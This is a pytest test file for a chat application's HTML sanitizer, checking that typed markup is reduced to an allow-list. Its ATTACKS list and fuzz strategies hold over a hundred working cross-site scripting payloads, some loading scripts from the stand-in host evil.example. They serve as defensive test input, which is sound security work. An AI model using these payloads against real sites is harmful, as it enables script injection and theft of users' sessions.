"""Sanitizers: whatever people type, only what the domain allows comes out, and it stays as it is."""

import asyncio
from html.parser import HTMLParser
from typing import cast

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from mtchat_adapters.nh3.markup import Nh3Sanitizer
from mtchat_core.domain import markup
from mtchat_core.domain.markup import TangledMarkup
from mtchat_core.ports.markup import Sanitizer
from tests.fuzzing import trying


@pytest.fixture(scope="module")
def nh3_sanitizer() -> Sanitizer:
    return Nh3Sanitizer()


@pytest.fixture(scope="module", params=["nh3"])
def sanitizer(request: pytest.FixtureRequest) -> Sanitizer:
    return cast(Sanitizer, request.getfixturevalue(f"{request.param}_sanitizer"))


class Inspector(HTMLParser):
    """Reads HTML again and complains of what isn't allowed.

    It repeats the rules in its own words, so that it can't share a fault of the domain.
    """

    tags = frozenset(
        [
            "p", "br", "strong", "b", "em", "i", "u", "s", "strike", "a", "ul", "ol", "li", "blockquote",
            "code", "pre", "span",
        ]
    )  # fmt: skip
    spans = frozenset({"data-type", "data-id", "data-label", "data-mention"})

    def __init__(self) -> None:
        super().__init__()
        self.complaints: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.complaints.append(f"tag {tag}")
        if tag != "br":
            self.open.append(tag)
        if tag == "a" and ("rel", "noopener noreferrer") not in attrs:
            self.complaints.append("a link without rel")
        for name, value in attrs:
            if not self.allows(tag, name, value or ""):
                self.complaints.append(f"attribute {tag} {name}={value!r}")

    def allows(self, tag: str, name: str, value: str) -> bool:
        match tag, name:
            case _, "lang" | "title":
                return True
            case "a", "href":
                absolute = value.lower().startswith(("http://", "https://"))
                within = value.startswith(("/", "?", "#")) and not value.startswith("//")
                return (absolute or within) and not set(value) & set(" \t\r\n\f\v\\\x00\x01\xa0\u200b")
            case "a", "target":
                return value == "_blank"
            case "a", "rel":
                return value == "noopener noreferrer"
            case "span" | "code" | "pre", "class":
                return all(word.startswith(("mtchat-", "language-")) for word in value.split())
            case "span", _:
                return name in self.spans
            case _:
                return False

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.complaints.append(f"stray end of {tag}")

    def handle_comment(self, data: str) -> None:
        self.complaints.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.complaints.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.complaints.append("unknown declaration")

    def handle_pi(self, data: str) -> None:
        self.complaints.append("processing instruction")


def complaints(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    unclosed = [f"unclosed {tag}" for tag in inspector.open]
    return inspector.complaints + unclosed


TABLE = [
    ("hello", "hello"),
    ("", ""),
    ("x & y > z", "x &amp; y &gt; z"),
    ("&lt;b&gt; q", "&lt;b&gt; q"),
    ("3 < 4", "3 &lt; 4"),
    ("<p title='k' lang='en' class='c'>v</p>", '<p title="k" lang="en">v</p>'),
    ("<a>w</a>", '<a rel="noopener noreferrer">w</a>'),
    ("<a href='/r' rel='nofollow'>w</a>", '<a href="/r" rel="noopener noreferrer">w</a>'),
    ("<a href='mailto:q@q.q'>w</a>", '<a rel="noopener noreferrer">w</a>'),
    ("<div><p>v</p></div>", "<p>v</p>"),
    ("<p>1<p>2", "<p>1</p><p>2</p>"),
    ("<script>1</script>v<style>2</style>", "v"),
    ("<iframe>v</iframe>w", "vw"),
    ("<svg><text>v</text></svg>", ""),
    ("<br/>", "<br>"),
]
TEXT = [
    ("a\xa0b", "a&nbsp;b"),
    ("&amp;&nbsp;&quot;", '&amp;&nbsp;"'),
    ("&copy; &#169; &#xa9;", "© © ©"),
    ("R&D &unknown;", "R&amp;D &amp;unknown;"),
    ("two\nlines\ttabbed", "two\nlines\ttabbed"),
    ("windows\r\nlines", "windows\nlines"),
    ("return&#13;by entity", "return\nby entity"),
    ("\"quoted\" 'twice'", "\"quoted\" 'twice'"),
    ("עברית \u202eabc", "עברית \u202eabc"),
    ("Z\u0351\u036b\u0343", "Z\u0351\u036b\u0343"),
]
MENTION = (
    '<span data-type="mention" data-id="u-1" data-label="Ana" data-mention="1" class="mtchat-mention">@Ana</span>'
)
MARKUP = [
    ("a<!-- b -->c", "ac"),
    ("<b>open", "<b>open</b>"),
    ("<P TITLE=x>v</P>", '<p title="x">v</p>'),
    ("<h1>big</h1> <em>small</em>", "big <em>small</em>"),
    ('<a href="https://example.org/?a=1&amp;b=2" target="_blank">w</a>',
     '<a href="https://example.org/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">w</a>'),
    (MENTION, MENTION),
    ('<pre class="language-sql"><code class="language-sql hljs">1</code></pre>',
     '<pre class="language-sql"><code class="language-sql">1</code></pre>'),
    ("<pre>\n\nsecond line</pre>", "<pre>\n\nsecond line</pre>"),
    ('<pre lang="en">\n\nsecond line</pre>', '<pre lang="en">\n\nsecond line</pre>'),
    ("<pre>\nfirst line</pre>", "<pre>first line</pre>"),
    ('<b title="a &quot;&lt;b&gt;&quot;">v</b>', '<b title="a &quot;&lt;b&gt;&quot;">v</b>'),
]  # fmt: skip


@pytest.mark.parametrize(("typed", "stored"), TABLE + TEXT + MARKUP)
async def test_what_is_typed_is_stored_as_the_contract_says(sanitizer: Sanitizer, typed: str, stored: str) -> None:
    assert await sanitizer.clean(typed) == stored
    assert await sanitizer.clean(stored) == stored


ATTACKS = [
    # Plain scripts, and what closes early, late or never.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script><!--</script><img src=x onerror=alert(1)>-->",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    # Event handlers on allowed and foreign tags.
    "<p onclick=alert(1)>x</p>",
    "<b onmouseover='alert(1)'>x</b>",
    "<a href=/x onfocus=alert(1) autofocus>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onanimationstart=alert(1) style='animation-name:a'>x</x>",
    "<span contenteditable onbeforeinput=alert(1)>x</span>",
    # Breaking out of attributes.
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<span data-label="\'><script>alert(1)</script>">x</span>',
    "<p title=`><img src=x onerror=alert(1)>`>x</p>",
    "<a title=\"x' onclick='alert(1)\">x</a>",
    "<p lang=\"en\"onclick=alert(1)>x</p>",
    "<p title=x/onclick=alert(1)>x</p>",
    "<p title='&quot; onclick=&quot;alert(1)'>x</p>",
    # Schemes in links, spelled in every way.
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='jav&NewLine;ascript&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097script:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#8203;javascript:alert(1)'>x</a>",
    "<a href='&#xa0;javascript:alert(1)'>x</a>",
    "<a href='&#x2800;javascript:alert(1)'>x</a>",
    "<a href='javascript&#0;:alert(1)'>x</a>",
    "<a href='javascript://%0aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/&Tab;/evil.example'>x</a>",
    "<a href=https:evil.example>x</a>",
    "<a href='https://example.org@evil.example'>x</a>",
    "<a href=/x target=_top>x</a>",
    "<a href=/x href=javascript:alert(1)>x</a>",
    "<a href=javascript:alert(1) href=/x>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=/x ping=//evil.example rel=opener download>x</a>",
    "<p href=javascript:alert(1)>x</p>",
    # Documents inside documents, forms, redirections, styles.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<span class='modal-backdrop fixed inset-0'>x</span>",
    # Clobbering the page's names.
    "<a id=config href=/x>x</a><a id=config name=url href=/x>x</a>",
    "<form id=document><input name=cookie></form>",
    # Markup that changes its meaning when it is parsed again.
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><p><style><!--</style><img src=x onerror=alert(1)>--></style></p>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><desc><noscript><a title='</noscript><img src=x onerror=alert(1)>'></a>",
    "<svg><title><a href='</title><img src=x onerror=alert(1)>'></a></title></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<title><a href='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script><p onclick=alert(1)>x</p></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
    "<table><tr><td><a href=javascript:alert(1)>x</table>y",
    "<table><a href=/1><tr><td><a href=/2>x</table>",
    "<a href=/1><table><tr><td><a href=/2>x</table>",
    "<p><table><tr><td><p>x</table>",
    "<b><p></b><i></p></i>",
    "<select><b><option><p>x</select>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<html><head><script>alert(1)</script></head><body onload=alert(1)><p>x</p></body></html>",
    # Comments, declarations, instructions, sections.
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- <!-- --> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<%<img src=x onerror=alert(1)>",
    "</ <img src=x onerror=alert(1)>",
    # Unfinished pieces and odd characters.
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)",
    "<p title='x",
    "<",
    "</",
    "<!",
    "<a",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<p\x0bonclick=alert(1)>x</p>",
    "<p\u2028onclick=alert(1)>x</p>",
    "<\u212aeygen autofocus onfocus=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
async def test_no_attack_leaves_anything_but_the_allow_list_g18_b44(sanitizer: Sanitizer, attack: str) -> None:
    cleaned = await sanitizer.clean(attack)

    assert complaints(cleaned) == []
    assert await sanitizer.clean(cleaned) == cleaned


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["<p>{}</p>", "<svg>{}", "<table>{}</table>", "<!--{}", "<p title='{}'>x", "<pre>\n{}"]
)
async def test_no_attack_gains_from_what_is_around_it_g18_b44(
    sanitizer: Sanitizer, attack: str, around: str
) -> None:
    cleaned = await sanitizer.clean(around.format(attack))

    assert complaints(cleaned) == []
    assert await sanitizer.clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "href",
    [
        "//evil.example",
        r"\\evil.example",
        "https:evil.example",
        "&#x3164;javascript:alert(1)",
        "page.html",
        "/a b",
    ],
)
async def test_a_link_loses_its_doubtful_address_and_keeps_its_text_b45(sanitizer: Sanitizer, href: str) -> None:
    assert await sanitizer.clean(f"<a href='{href}'>w</a>") == '<a rel="noopener noreferrer">w</a>'


async def test_host_classes_and_other_windows_are_dropped_b46(sanitizer: Sanitizer) -> None:
    typed = '<span class="btn mtchat-mention">x</span><span class="modal">y</span><a href="/z" target="_top">z</a>'

    cleaned = await sanitizer.clean(typed)

    assert cleaned == (
        '<span class="mtchat-mention">x</span><span>y</span><a href="/z" rel="noopener noreferrer">z</a>'
    )


async def test_the_longest_text_of_ampersands_is_kept_b43(sanitizer: Sanitizer) -> None:
    assert await sanitizer.clean("&" * markup.MAX_CONTENT) == "&amp;" * markup.MAX_CONTENT


async def test_the_longest_row_of_links_is_kept_b43(sanitizer: Sanitizer) -> None:
    row = "<a></a>" * (markup.MAX_CONTENT // len("<a></a>"))

    assert complaints(await sanitizer.clean(row)) == []


@pytest.mark.parametrize(
    "content",
    ["<p>", "<p>&nbsp;</p>", "\u200b", "<p>&#x3164;&#8203;</p>", "<svg><text>x</text></svg>", "<!--x-->"],
)
async def test_what_shows_nothing_is_blank_once_cleaned_b42(sanitizer: Sanitizer, content: str) -> None:
    assert markup.is_blank(await sanitizer.clean(content))


@pytest.mark.parametrize("tag", ["b", "span", "blockquote", "div", "ul", "font", "table"])
async def test_four_thousand_nested_tags_are_refused_b47(sanitizer: Sanitizer, tag: str) -> None:
    with pytest.raises(TangledMarkup):
        await sanitizer.clean(f"<{tag}>" * 4000)


@pytest.mark.parametrize("tag", ["p", "li"])
async def test_tags_that_close_each_other_are_not_nested_b47(sanitizer: Sanitizer, tag: str) -> None:
    assert await sanitizer.clean(f"<{tag}>x" * 4000) == f"<{tag}>x</{tag}>" * 4000


async def test_sixty_four_levels_are_kept_and_one_more_is_refused_b47(sanitizer: Sanitizer) -> None:
    deepest = "<blockquote>" * 64 + "x" + "</blockquote>" * 64

    assert await sanitizer.clean(deepest) == deepest
    with pytest.raises(TangledMarkup):
        await sanitizer.clean("<blockquote>" * 65)


async def test_padding_buys_nothing_that_could_not_be_cleaned_again_g18(sanitizer: Sanitizer) -> None:
    padding = f"<!--{'x' * 40_000}-->"

    with pytest.raises(TangledMarkup):
        await sanitizer.clean(padding + "<b>" * 60 + "<p>x</p>" * 1000)


async def test_a_link_opened_again_in_every_paragraph_is_refused_when_it_grows_too_long_b47(
    sanitizer: Sanitizer,
) -> None:
    with pytest.raises(TangledMarkup):
        await sanitizer.clean(f"<p><a href=/{'x' * 2000}>" + "<p>x" * 1000)


async def test_long_content_is_cleaned_while_others_go_on(sanitizer: Sanitizer) -> None:
    order: list[str] = []

    async def note(name: str, html: str) -> None:
        await sanitizer.clean(html)
        order.append(name)

    await asyncio.gather(note("long", "&" * 30_000), note("short", "hello"))

    assert order == ["short", "long"]


async def test_many_at_once_each_get_their_own(sanitizer: Sanitizer) -> None:
    typed = [f"<p>{n}{'&' * 6000}" for n in range(20)]

    cleaned = await asyncio.gather(*map(sanitizer.clean, typed))

    assert cleaned == [f"<p>{n}{'&amp;' * 6000}</p>" for n in range(20)]


NAMES = st.sampled_from(
    [
        "p", "br", "b", "i", "u", "s", "a", "ul", "li", "pre", "code", "span", "blockquote", "div",
        "h1", "font", "nobr", "table", "tr", "td", "caption", "select", "option", "button", "object",
        "marquee", "template", "svg", "math", "mi", "mtext", "annotation-xml", "foreignObject", "desc",
        "title", "textarea", "noscript", "style", "script", "xmp", "plaintext", "form", "input", "body",
        "html", "frameset", "ruby", "rt", "dd",
    ]
)  # fmt: skip
VALUES = st.sampled_from(
    ["", "x", "/x", "//evil", "javascript:1", "java&#9;script:1", "https://e.org", "_top", "_blank", "mtchat-a b",
     "'", "\"", "><img onerror=1>", "</p>", "--&gt;", "&quot;", "&#13;", "\xa0", "`"]
)  # fmt: skip
ATTRIBUTES = st.builds(
    lambda name, quote, value: f" {name}={quote}{value}{quote}",
    st.sampled_from(
        ["href", "target", "class", "title", "lang", "onclick", "style", "xlink:href", "data-id", "rel", "id"]
    ),
    st.sampled_from(["", "'", '"']),
    VALUES,
)
STARTS = st.builds(
    lambda name, attributes, end: f"<{name}{''.join(attributes)}{end}",
    NAMES,
    st.lists(ATTRIBUTES, max_size=2),
    st.sampled_from([">", "/>", " ", ">\n", ""]),
)
ENDS = st.builds(lambda name: f"</{name}>", NAMES)
OTHERS = st.sampled_from(
    ["x", " ", "\n", "<", "</", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?", "<!doctype html>", "&", "&lt;",
     "&#13;", "&#10;", "&nbsp;", "&#0;", "&#x80;", "\r", "\x0c", "\x0b", "\ufffe", "\"", "'", ">", "🙂"]
)  # fmt: skip
FRAGMENTS = st.lists(st.one_of(STARTS, ENDS, OTHERS), max_size=25).map("".join)


@trying(1000)
@given(FRAGMENTS)
@example("<a href=/1><table><tr><td><a href=/2>x")
@example("<pre>&#10;&#10;&#13;x")
@example("<p><button><p><object><p>")
async def test_any_mixture_of_nasty_pieces_comes_out_allowed_and_final_g18(
    sanitizer: Sanitizer, typed: str
) -> None:
    cleaned = await sanitizer.clean(typed)

    assert complaints(cleaned) == []
    assert await sanitizer.clean(cleaned) == cleaned


@trying(300)
@given(st.text(st.characters(codec="utf-8", exclude_characters="\x00<"), max_size=40))
async def test_any_text_is_only_escaped_g18(sanitizer: Sanitizer, typed: str) -> None:
    cleaned = await sanitizer.clean(typed)

    assert "<" not in cleaned
    assert ">" not in cleaned
    assert await sanitizer.clean(cleaned) == cleaned
